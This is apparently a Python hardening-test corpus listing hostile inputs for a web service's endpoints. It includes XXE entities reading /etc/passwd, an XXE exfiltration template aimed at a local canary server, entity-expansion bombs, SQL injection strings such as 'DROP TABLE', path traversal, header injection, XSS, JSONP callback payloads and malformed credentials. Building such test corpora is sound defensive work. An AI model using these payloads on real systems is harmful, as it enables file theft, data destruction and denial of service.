"""The hostile inputs, as data (issue 15, part 3). tests/hardening/test_corpus.py walks
every endpoint with every input that applies to it.

XML documents are templates: `{value}` is where a hostile construct lands inside an
otherwise ordinary request, `{canary}` the address of a local HTTP server the test runs
(an external entity or DTD that gets fetched shows up there).
"""
from __future__ import annotations

# ---------------------------------------------------------------- XML

# (name, prolog placed before the root element, text placed where a value goes)
XML_PROLOGS = {
    "xxe_file": ('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "xxe_http": ('<!DOCTYPE r [<!ENTITY xxe SYSTEM "{canary}/xxe-entity">]>', "&xxe;"),
    "external_dtd": ('<!DOCTYPE r SYSTEM "{canary}/external.dtd">', "ACT-1"),
    "public_dtd": ('<!DOCTYPE r PUBLIC "-//EVIL//DTD X//EN" "{canary}/public.dtd">', "ACT-1"),
    "parameter_entity": ('<!DOCTYPE r [<!ENTITY % remote SYSTEM "{canary}/parameter.dtd"> %remote;]>', "ACT-1"),
    "parameter_entity_exfiltration": (
        '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'{canary}/exfil?%file;\'>"> %wrap; %send;]>', "ACT-1"),
    "billion_laughs": ("<!DOCTYPE r [" + '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10}">' for i in range(1, 10)) + "]>", "&l9;"),
    "quadratic_blowup": ('<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>', "&a;" * 2_000),
    "internal_entity": ('<!DOCTYPE r [<!ENTITY e "ACT-entity">]>', "&e;"),
    "xinclude": ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                     'parse="text"/>'),
    "xinclude_http": ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}/xinclude" '
                          'parse="text"/>'),
    "stylesheet_pi": ('<?xml-stylesheet type="text/xsl" href="{canary}/style.xsl"?>', "ACT-1"),
    "cdata_script": ("", "<![CDATA[</script><script>alert(1)</script>]]>"),
    "nul_character_reference": ("", "ACT&#0;1"),
    "undefined_entity": ("", "&nosuchentity;"),
}

# Whole bodies that are hostile in their bytes rather than their constructs.
DEEP_XML_LEVELS = 100_000


def deep_xml(levels: int = DEEP_XML_LEVELS) -> bytes:
    return b"<a>" * levels + b"x" + b"</a>" * levels


RAW_XML_BODIES = {
    "deep_nesting": deep_xml(),
    "invalid_utf8": b'<?xml version="1.0" encoding="UTF-8"?><r>ACT-\xff\xfe\xc3\x28</r>',
    "nul_byte": b'<?xml version="1.0" encoding="UTF-8"?><r>ACT\x001</r>',
    "unknown_encoding": b'<?xml version="1.0" encoding="X-NO-SUCH"?><r/>',
    "utf7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-r+AD4-x+ADw-/r+AD4-',
    "truncated": b'<?xml version="1.0"?><r><a>',
    "empty": b"",
    "whitespace": b" \r\n\t ",
    "not_xml": b"\x00\x01\x02\x03" * 64,
    "json_instead": b'{"id": "ACT-1"}',
    "many_namespaces": b"<r " + b" ".join(b'xmlns:n%d="urn:x:%d"' % (i, i) for i in range(20_000)) + b"/>",
    "huge_attribute": b'<r a="' + b"x" * 900_000 + b'"/>',
    "huge_name": b"<" + b"a" * 500_000 + b"/>",
}

# ---------------------------------------------------------------- JSON

JSON_BODIES = {
    "deep_array": b"[" * 100_000 + b"]" * 100_000,
    "deep_object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep_1100": b"[" * 1_100 + b"]" * 1_100,  # just past CPython's recursion limit
    "big_integer": b'{"company": 1' + b"0" * 400 + b"}",
    "huge_exponent": b'{"company": 1e999999}',
    "nan": b'{"company": NaN}',
    "infinity": b'{"company": -Infinity}',
    "invalid_utf8": b'{"name": "\xff\xfe"}',
    "nul": b'{"name": "a\x00b"}',
    "lone_surrogate": b'{"name": "\\ud800"}',
    "truncated": b'{"name": "a',
    "not_an_object": b'"just a string"',
    "array_of_objects": b'[{"company": 1}]',
    "null": b"null",
    "wrong_types": b'{"company": {"x": 1}, "password": [1, 2], "serviceQueue": true, "username": {"a": 1}}',
    "bom": b'\xef\xbb\xbf{"company": 1}',
}

# ---------------------------------------------------------------- strings in parameters

SQL = ["' OR 1=1 --", "'; DROP TABLE calls; --", '" OR ""="', "1; SELECT pg_sleep(10)--",
       "1 UNION SELECT password_hash FROM users--", "%' AND 1=0 UNION SELECT NULL--"]
TRAVERSAL = ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd",
             "..\\..\\windows\\win.ini", "C:\\Windows\\win.ini", "....//....//etc/passwd", "recording\x00.mp3",
             "%00", "file:///etc/passwd"]
CONTROL = ["a\x00b", "a\r\nSet-Cookie: injected=1", "a\nLocation: http://127.0.0.1:1/", "\u2028\u2029",
           "\ufeff", "\U0001f4a9" * 50, "\udcff", "x" * 10_000, "%s%s%s%n{0}{1}", "<script>alert(1)</script>",
           "-1", "99999999999999999999999", "1e999", "NaN", "", " ", "null", "[]", "{}", "true"]
STRINGS = SQL + TRAVERSAL + CONTROL
# The few that stand for each family, for walks over every parameter of every operation.
PARAMETER_STRINGS = ["' OR 1=1 --", "'; DROP TABLE calls; --", "../../etc/passwd", "a\x00b",
                     "a\r\nSet-Cookie: injected=1", "\udcff", "x" * 10_000, "99999999999999999999999"]

# Path segments: the same, as they arrive in a URL (encoded by the client).
PATH_SEGMENTS = ["' OR 1=1 --", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252F..%252Fetc%252Fpasswd",
                 "%2Fetc%2Fpasswd", "a%00b", "a%0d%0aSet-Cookie:%20injected=1", "%ff%fe", "x" * 4_000, "9" * 40]

# ---------------------------------------------------------------- JSONP callbacks

BAD_CALLBACKS = ["alert(1)//", "alert(1);x", "</script><script>alert(1)</script>", "a\u2028b", "a\u2029b",
                 "x=alert", "1abc", "a..b", "a.", ".a", "a-b", "a b", "a\nb", "a\x00b", "a" * 200,
                 "\u0430lert", "a[0]", "a['b']", "(function(){})", "a%0d%0ab", "", "a/**/b",
                 "callback\r\nSet-Cookie: x=1"]
GOOD_CALLBACKS = ["cb", "jQuery_123", "$.callbacks.a1", "_", "A.b.C_d$"]

# ---------------------------------------------------------------- credentials

AUTHORIZATION = {
    "basic_bad_base64": "Basic !!!not-base64***",
    "basic_no_colon": "Basic " + "dXNlcm5vY29sb24=",  # "usernocolon"
    "basic_empty": "Basic ",
    "basic_only_colon": "Basic Og==",  # ":"
    "basic_huge": "Basic " + "QUFB" * 20_000,
    "basic_non_utf8": "Basic " + "//79Ong6eHg=",  # b"\xff\xfe\xfdz\x9e\x8c:xx" in part
    "basic_nul": "Basic " + "YQBiOmMAZA==",  # "a\0b:c\0d"
    "basic_sql_user": "Basic " + "JyBPUiAxPTEgLS06eA==",  # "' OR 1=1 --:x"
    "basic_twice": "Basic Og== Basic Og==",
    "bearer_garbage": "Bearer \x7f\x01garbage",
    "bearer_huge": "Bearer " + "A" * 50_000,
    "bearer_empty": "Bearer",
    "bearer_sql": "Bearer ' OR 1=1 --",
    "unknown_scheme": "Negotiate TlRMTVNTUAABAAAAB4IIog==",
    "digest": 'Digest username="a", realm="b", nonce="c", uri="/", response="d"',
    "just_a_word": "garbage",
    "very_many_spaces": "Basic" + " " * 8_000 + "Og==",
}
COOKIES = {
    "token_garbage": "TokenKey=\x7f\x01\x02",
    "token_huge": "TokenKey=" + "A" * 20_000,
    "token_sql": "TokenKey=' OR 1=1 --",
    "token_quoted_garbage": 'TokenKey="\\"\\\\\\x00"',
    "token_many": "; ".join(f"TokenKey={i}" for i in range(500)),
    "broken_cookie_header": 'TokenKey=a; ;;; =; ==; "',
    "traversal": "TokenKey=../../etc/passwd",
    "session_garbage": "callsuite_session=\x7f\x01; csrf=';--",
}

# ---------------------------------------------------------------- Range on audio

RANGES = {
    "hundreds": "bytes=" + ",".join(f"{i}-{i}" for i in range(0, 600, 2)),
    "overlapping": "bytes=" + ",".join("0-" for _ in range(200)),
    "overlapping_spans": "bytes=" + ",".join(f"0-{i}" for i in range(100, 300)),
    "suffix_zero": "bytes=-0",
    "suffix_huge": "bytes=-999999999",
    "inverted": "bytes=500-10",
    "non_numeric": "bytes=a-b",
    "negative_start": "bytes=-5-10",
    "beyond_end": "bytes=999999999-",
    "huge_numbers": "bytes=0-" + "9" * 60,
    "wrong_unit": "items=0-10",
    "empty": "bytes=",
    "only_comma": "bytes=,,,,",
    "whitespace": "bytes = 0 - 10",
    "one_suffix_plus_whole": "bytes=-1,0-",
    "many_suffixes": "bytes=" + ",".join("-1" for _ in range(300)),
}

# ---------------------------------------------------------------- sizes

HUGE_QUERY_BYTES = 300_000  # beyond waitress's 256 KiB header limit
LONG_QUERY_BYTES = 60_000  # within it: read and refused by the handler, or answered as usual
